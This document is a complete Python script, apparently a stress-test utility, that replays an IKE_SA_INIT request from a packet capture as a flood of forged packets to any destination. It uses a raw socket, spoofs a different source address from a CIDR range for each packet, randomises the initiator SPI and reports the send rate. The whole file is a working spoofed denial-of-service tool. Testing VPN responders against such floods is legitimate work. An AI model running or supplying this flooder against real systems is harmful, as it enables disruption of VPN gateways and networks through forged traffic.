#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""ike-flood.py PCAP DESTINATION COUNT [--sources CIDR]: sends COUNT copies of the first
IKE_SA_INIT (UDP to port 500) of an Ethernet capture to DESTINATION through a raw socket, each
from another source address of CIDR (default 198.18.0.0/15) and with another initiator SPI, as
a flood of forged IKE_SA_INIT would come. Prints how many it sent and how long it took."""
import argparse
import ipaddress
import os
import socket
import struct
import time

parser = argparse.ArgumentParser()
parser.add_argument("pcap")
parser.add_argument("destination")
parser.add_argument("count", type=int)
parser.add_argument("--sources", default="198.18.0.0/15")
args = parser.parse_args()

with open(args.pcap, "rb") as f:
    data = f.read()
magic = struct.unpack("<I", data[:4])[0]
endian = "<" if magic in (0xA1B2C3D4, 0xA1B23C4D) else ">"
offset = 24
template = None
while offset + 16 <= len(data):
    included = struct.unpack(endian + "I", data[offset + 8:offset + 12])[0]
    frame = data[offset + 16:offset + 16 + included]
    offset += 16 + included
    packet = frame[14:]
    if len(packet) < 28 or packet[9] != 17:
        continue
    ihl = (packet[0] & 0x0F) * 4
    sport, dport = struct.unpack("!HH", packet[ihl:ihl + 4])
    ike = packet[ihl + 8:]
    # IKE header: exchange type 34 (IKE_SA_INIT) at octet 18, flags 0x08 (initiator) at 19.
    if dport == 500 and len(ike) >= 28 and ike[18] == 34 and ike[19] & 0x08:
        template = bytearray(ike)
        break
if template is None:
    raise SystemExit(f"{args.pcap}: no IKE_SA_INIT request to port 500")

network = ipaddress.ip_network(args.sources)
base = int(network.network_address)
size = network.num_addresses
destination = socket.inet_aton(args.destination)
sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
udp_length = 8 + len(template)
start = time.monotonic()
sent = 0
for i in range(args.count):
    source = struct.pack("!I", base + 1 + i % (size - 2))
    template[0:8] = os.urandom(8)  # initiator SPI
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_length, i & 0xFFFF, 0, 64, 17, 0, source, destination)
    udp = struct.pack("!HHHH", 500, 500, udp_length, 0)  # no UDP checksum (RFC 768, IPv4)
    try:
        sock.sendto(ip + udp + template, (args.destination, 0))
        sent += 1
    except (BlockingIOError, OSError):
        pass
elapsed = time.monotonic() - start
print(f"sent {sent} forged IKE_SA_INIT from {min(args.count, size - 2)} addresses of {network} "
      f"in {elapsed:.2f} s ({sent / elapsed:.0f}/s)")
